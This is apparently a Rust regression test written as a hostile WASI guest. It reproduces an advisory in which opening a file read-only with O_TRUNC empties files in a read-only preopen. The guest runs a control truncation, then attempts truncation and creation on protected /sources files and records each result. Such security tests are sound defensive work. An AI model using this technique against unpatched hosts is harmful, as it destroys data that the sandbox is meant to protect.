//! RUSTSEC-2026-0149 (GHSA-2r75-cxrj-cmph, wasmtime-wasi): "WASI
//! path_open(TRUNCATE) bypasses `FilePerms::WRITE` host restriction". An
//! open for *reading* with `O_TRUNC` emptied a file in a read-only preopen.
//! Rust's `OpenOptions` refuses truncate-without-write, so this goes through
//! wasi-libc's open(2) with the raw flags.
use wport_hostile_guests::raw::*;
use wport_hostile_guests::*;

struct Guest;

impl Port for Guest {
    fn build() -> Result<()> {
        let mut r = Report::new();
        // Control: on a writable preopen the same call truncates, which shows
        // the flags reach the host as intended.
        write(&mut r, "/work/control");
        r.io(
            "open(RDONLY|TRUNC) /work/control",
            raw::open_flags("/work/control", O_RDONLY | O_TRUNC),
        );
        r.io_with(
            "size /work/control",
            std::fs::metadata("/work/control"),
            |m| format!("{} bytes", m.len()),
        );
        // The attack, on the read-only sources.
        for p in [
            "/sources/distfiles/hello-1.0.tar.gz",
            "/sources/patches/fix.patch",
        ] {
            r.io(
                format!("open(RDONLY|TRUNC) {p}"),
                raw::open_flags(p, O_RDONLY | O_TRUNC),
            );
            r.io(
                format!("open(RDONLY|TRUNC|CREAT) {p}"),
                raw::open_flags(p, O_RDONLY | O_TRUNC | O_CREAT),
            );
        }
        r.io(
            "open(RDONLY|TRUNC|CREAT) /sources/files/new",
            raw::open_flags("/sources/files/new", O_RDONLY | O_TRUNC | O_CREAT),
        );
        r.io(
            "open(WRONLY|TRUNC) /sources/files/README",
            raw::open_flags("/sources/files/README", O_WRONLY | O_TRUNC),
        );
        r.finish()
    }
}

wport_guest_sdk::export_port!(Guest);
